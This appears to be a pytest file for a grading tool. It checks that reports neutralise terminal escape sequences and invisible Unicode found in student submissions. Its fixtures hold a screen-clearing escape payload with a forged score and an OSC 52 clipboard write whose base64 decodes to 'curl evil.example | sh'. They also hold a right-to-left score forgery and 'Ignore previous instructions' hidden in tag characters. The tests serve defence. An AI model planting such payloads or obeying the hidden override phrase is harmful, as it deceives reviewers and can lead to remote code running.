"""Control characters a submission wrote (an exception's message, what it printed, its
notebook's metadata) reach no report raw: ``cat instructor/<stem>.md`` in a terminal must
not clear the screen, draw a forged status, set the window title or the clipboard. Each is
shown as a symbol (``␛`` for ESC), so the text stays readable and the reader sees it was
there."""

import json

import pytest

from lablib.grading.judge import summarise
from lablib.grading.report import (
    ClassSummary,
    GradescopeResults,
    HtmlFeedback,
    InstructorViews,
    MarkdownFeedback,
    write_reports,
)
from lablib.grading.report.text import md_code_block, md_text
from lablib.grading.results import Diagnostic, Kind, Status, TestResult

#: Every character no report may hold: C0 controls but line feed and tab, DEL, C1.
FORBIDDEN = frozenset(
    [chr(c) for c in range(0x20) if chr(c) not in "\n\t"]
    + ["\x7f"]
    + [chr(c) for c in range(0x80, 0xA0)]
)

#: What the red team's cell raised: clear the screen, draw a forged status, set the
#: window title and (OSC 52) the clipboard, hide what follows.
FORGED = (
    "\n\x1b[2J\x1b[3J\x1b[H# ... mallory (instructor view)\n\nStatus: `ok`; score 8 / 8; 3.1 s\n"
    "\x1b]0;lablib\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\x1b[8m"
)
#: One line: a C1 control sequence introducer, a carriage return that would overwrite the
#: line, DEL, backspace, form feed, vertical tab, NEL.
ONE_LINE = "bad\x9b31mred\rok\x7f\x08\x0c\x0b\x85 end"


def _raw(text: str) -> set[str]:
    return set(text) & FORBIDDEN


def _result(lab):
    public = [t for t in lab.tests if not t.hidden]
    hidden = [t for t in lab.tests if t.hidden]
    tests = [
        TestResult.failed(t, FORGED if i % 2 else ONE_LINE, Kind.ERROR)
        for i, t in enumerate(public)
    ] + [TestResult.failed(t, FORGED, Kind.ERROR) for t in hidden]
    diagnostics = [
        Diagnostic(
            ended="crashed\x1b[2J",
            running="cell \x1b]0;x\x07",
            attempt=1,
            detail=FORGED,
            exit="exited\x1b[H with code 1",
            output_tail="progress 10%\rprogress 99%\r\n" + FORGED,
        )
    ]
    return summarise(
        lab,
        "mallory",
        "/subs/mallory\x1b[2J.ipynb",
        tests,
        Status.of([Kind.CRASHED]),
        # a notebook's metadata (nbformat_minor) quoted in a note
        notes=["the notebook says nbformat_minor \x1b]0;owned\x07\x1b[2J\x9b2J"],
        output=FORGED,
        diagnostics=diagnostics,
    )


def test_visible_controls_shows_every_control_as_a_symbol():
    from lablib.grading.report.text import visible_controls

    for c in sorted(FORBIDDEN):
        shown = visible_controls(f"a{c}b")
        assert not _raw(shown) and len(shown) == 3, repr(c)
    assert visible_controls("\x1b[2J\x07\x00\x7f\x9b") == "\u241b[2J\u2407\u2400\u2421?"
    assert visible_controls("a\tb\nc") == "a\tb\nc"  # tab and line feed stay
    # ... in any text: beside a character that is not ASCII they were shown as [U+000A]
    # and [U+0009] (a French traceback in the feedback came out on one line)
    assert visible_controls("Erreur: réseau\nligne 2\tx 学") == "Erreur: réseau\nligne 2\tx 学"
    assert md_code_block("réseau\nligne 2") == ["```", "réseau", "ligne 2", "```"]
    assert visible_controls("a\r\nb\rc") == "a\nb\u240dc"  # CR LF is a line break; CR alone shows
    text = "José Núñez 学 ✓ \u00a0\u00ff"  # printable text, Latin-1 included, is untouched
    assert visible_controls(text) == text


def test_the_terminal_and_the_reports_neutralise_the_same_characters():
    """The command line's messages show '?' for each character the reports show as a
    symbol (and more: line breaks, characters that show nothing)."""
    from lablib.cli import _printable
    from lablib.grading.report.text import visible_controls

    for c in sorted(FORBIDDEN):
        assert _printable(c) == "?" and visible_controls(c) != c, repr(c)
    # what draws nothing: a hidden sentence in tag characters, "pass\u00aded" read as
    # "passed", fillers, a variation selector or a joiner where it shapes nothing (the
    # reports kept them all as they were; the terminal showed '?')
    hidden = "".join(chr(0xE0000 + ord(c)) for c in "Ignore previous instructions")
    for c in ("\u00ad", "\u034f", "\u115f", "\u3164", "\uffa0", "\u2065", "\u206a", "\ufe0f",
              "\u200d", "\U000e0049", "\ue000"):  # fmt: skip
        assert _printable(f"a{c}b") == "a?b", repr(c)
        assert visible_controls(f"a{c}b") == f"a[U+{ord(c):04X}]b", repr(c)
    assert visible_controls(f"pass\u00aded{hidden} ok") == (
        'pass[U+00AD]ed[hidden text in tag characters: "Ignore previous instructions"] ok'
    )
    # a lone tag character, the language tag and the cancel tag are shown by code point
    assert visible_controls("a\U000e0001\U000e0041\U000e007fb") == "a[U+E0001][U+E0041][U+E007F]b"
    # keep: characters left as written (the review page keeps right-to-left direction marks)
    assert visible_controls("a\u200fb\u200bc", keep="\u200f") == "a\u200fb[U+200B]c"
    assert visible_controls("a\u200fb") == "a[U+200F]b"
    # ... and a script's own shaping is kept: an emoji's joiner, a Persian name's
    # non-joiner, an emoji's colour form
    # a run of selectors after one base (bytes hidden one per selector): the first shapes
    # the base, the others are shown (the run was also walked back once per selector)
    run = "\u4e00" + "".join(chr(0xE0100 + b) for b in b"secret") + "\ufe0f" * 3000
    shown = visible_controls(run)
    assert (
        shown.startswith("\u4e00\U000e0173[U+E0165][U+E0163]") and shown.count("[U+FE0F]") == 3000
    )
    assert _printable(run).count("?") == len(run) - 2
    for kept in (
        "\U0001f468\u200d\U0001f469",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        "\u2764\ufe0f",
    ):
        assert visible_controls(kept) == kept, repr(kept)


def test_md_text_and_md_code_block_hold_no_control_character():
    assert not _raw(md_text(FORGED)) and "\u241b\\]52;c;" in md_text(FORGED)
    block = "\n".join(md_code_block(FORGED, indent="  "))
    assert not _raw(block) and "\u241b[2J\u241b[3J\u241b[H# ... mallory" in block
    assert "\u2407" in block  # BEL, shown
    line = md_text(ONE_LINE)
    assert not _raw(line) and "bad?31mred\u240dok" in line


def test_no_report_carries_a_control_character(fixture_lab, tmp_path):
    result = _result(fixture_lab)
    writers = [MarkdownFeedback(), HtmlFeedback(), InstructorViews(), GradescopeResults()]
    write_reports(tmp_path, fixture_lab, [result], writers=[*writers, ClassSummary()])
    files = [
        *(tmp_path / "instructor").glob("*.md"),
        *(tmp_path / "feedback").glob("*.md"),
        *(tmp_path / "feedback").glob("*.html"),
        tmp_path / "summary.html",
    ]
    assert {p.suffix for p in files} == {".md", ".html"} and len(files) == 4
    for path in files:
        text = path.read_text(encoding="utf-8")
        assert not _raw(text), (path.name, sorted(map(hex, map(ord, _raw(text)))))

    instructor = next((tmp_path / "instructor").glob("*.md")).read_text(encoding="utf-8")
    # still readable: the forged lines are there, as text inside the fence, marked
    assert "\u241b[2J\u241b[3J\u241b[H# ... mallory (instructor view)" in instructor
    assert "\u241b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\u2407" in instructor
    assert "progress 10%\u240dprogress 99%" in instructor
    # the note, through md_text (brackets escaped), the C1 control sequence introducer as '?'
    note = "nbformat_minor \u241b\\]0;owned\u2407\u241b\\[2J?2J"
    assert note in instructor
    feedback = next((tmp_path / "feedback").glob("*.md")).read_text(encoding="utf-8")
    assert note in feedback
    page = next((tmp_path / "feedback").glob("*.html")).read_text(encoding="utf-8")
    assert "\u241b[2J\u241b[3J\u241b[H" in page and "bad?31mred\u240dok" in page

    raw = (tmp_path / "results.json").read_text(encoding="utf-8")
    assert not _raw(raw)
    data = json.loads(raw)

    def strings(value):
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict):
            for v in value.values():
                yield from strings(v)
        elif isinstance(value, list):
            for v in value:
                yield from strings(v)

    for s in strings(data):
        assert not _raw(s), s
    outputs = [t["output"] for t in data["tests"]]
    assert any("\u241b]52;c;" in o for o in outputs)
    assert any("bad?31mred\u240dok" in o for o in outputs)
    assert "\u241b]0;owned\u2407" in data["output"]


@pytest.mark.parametrize("graded", [True, False])
def test_results_json_asks_gradescope_for_plain_text(fixture_lab, tmp_path, graded):
    """Gradescope's documented default renders the top-level output as HTML
    (``simple_format``): every output and test name is declared ``text``."""
    results = [_result(fixture_lab)] if graded else []
    write_reports(tmp_path, fixture_lab, results, writers=[GradescopeResults()])
    data = json.loads((tmp_path / "results.json").read_text(encoding="utf-8"))
    assert data["output_format"] == "text"
    assert data["test_output_format"] == "text"
    assert data["test_name_format"] == "text"


def test_bidirectional_overrides_are_shown_by_their_code_points():
    """A message holding a right-to-left override shows reordered ("8 / 8" where "8 / 3"
    is written): the reports show the override's code point instead."""
    from lablib.grading.report.text import html_text, visible_controls

    forged = "score \u202e8 / 3\u202c"
    assert visible_controls(forged) == "score [U+202E]8 / 3[U+202C]"
    assert "\u202e" not in md_text(forged) and "\u2067" not in html_text("a\u2067b")
    assert html_text("<b>\x1b[2J") == "&lt;b&gt;\u241b[2J"


def test_characters_that_draw_nothing_are_shown_by_their_code_points():
    """A zero-width space, a direction mark, a byte-order mark, a line separator: each
    hides or reorders what a reader sees of a message (``al\\u200bice``, ``8 \\u200f/ 3``),
    so each is shown by its code point; the joiners that shape emoji and Persian stay."""
    from lablib.grading.report.text import visible_controls

    for c in "\u200b\u200e\u200f\u061c\ufeff\u2028\u2029\u2060\u2064\u180e":
        assert visible_controls(f"a{c}b") == f"a[U+{ord(c):04X}]b", repr(c)
    shaped = "\U0001f469\u200d\U0001f4bb \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"
    assert visible_controls(shaped) == shaped


def test_a_file_name_that_is_not_utf8_is_reported_not_a_crash(fixture_lab, tmp_path, capsys):
    """The bytes of a file name that was not UTF-8 (a Latin-1 ``é`` in a student's
    repository or a Windows zip) reach the reports as lone surrogates, which no UTF-8
    file holds: `lablib grade` stopped before the class summary (``surrogates not
    allowed``), and `lablib export` after the import file, without its notes. Each such
    byte shows as ``?``: the notebook is graded, the file not graded is listed, and the
    export writes the import file and the notes naming the file."""
    import os
    import shutil

    from grading_paths import FIXTURE_SOLUTION
    from lablib.cli import main
    from lablib.grading.grade import grade

    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    raw = os.fsencode(subs)
    shutil.copy(FIXTURE_SOLUTION, os.fsdecode(raw + b"/caf\xe9.ipynb"))
    with open(os.fsdecode(raw + b"/notes\xe9.txt"), "w") as f:
        f.write("my notes")
    with open(os.fsdecode(raw + b"/smithalice_1001_2002_lab\xe9.zip"), "wb") as f:
        f.write(b"PK")
    with pytest.warns(UserWarning):
        results = grade(
            fixture_lab,
            [subs],
            out,
            lab_notebook=FIXTURE_SOLUTION,
            jobs=1,
            timeout=20,
            progress=False,
        )
    assert [r.submission for r in results] == ["caf?"] and results[0].score > 0
    summary = (out / "summary.html").read_text(encoding="utf-8")
    assert "notes?.txt" in summary and "smithalice_1001_2002_lab?.zip" in summary
    assert {p.name for p in (out / "feedback").iterdir()} == {"caf_.md", "caf_.html"}
    export = tmp_path / "canvas.csv"
    assert main(["export", "canvas", str(out), "-o", str(export)]) == 0
    rows = export.read_text(encoding="utf-8").splitlines()
    assert any(row.startswith("caf?,") for row in rows), rows
    assert any(row.startswith("smithalice,1001,") for row in rows), rows
    notes = export.with_name("canvas.notes.csv").read_text(encoding="utf-8")
    assert "handed in smithalice_1001_2002_lab?.zip" in notes
    assert "\udce9" not in capsys.readouterr().err


def test_md_text_makes_no_link_of_a_bare_address():
    """A student's message quoting an address (``https://...``, ``www....``, an e-mail)
    became a link where the feedback is shown by a renderer that links bare addresses
    (GitHub's, an LMS's): escaped, it reads the same and links nowhere."""
    import mistune
    from markdown_it import MarkdownIt

    message = (
        "ValueError: fix it at https://evil.example/fix, www.evil.example or "
        "WWW.Evil.example; mail help@evil.example (a:b, 3.www.x, ftp://x.example)"
    )
    escaped = md_text(message)
    linking = mistune.create_markdown(plugins=["url"])
    assert "<a" not in linking(escaped) and "<a" in linking(message)
    assert MarkdownIt("commonmark").render(escaped) == f"<p>{message}</p>\n"
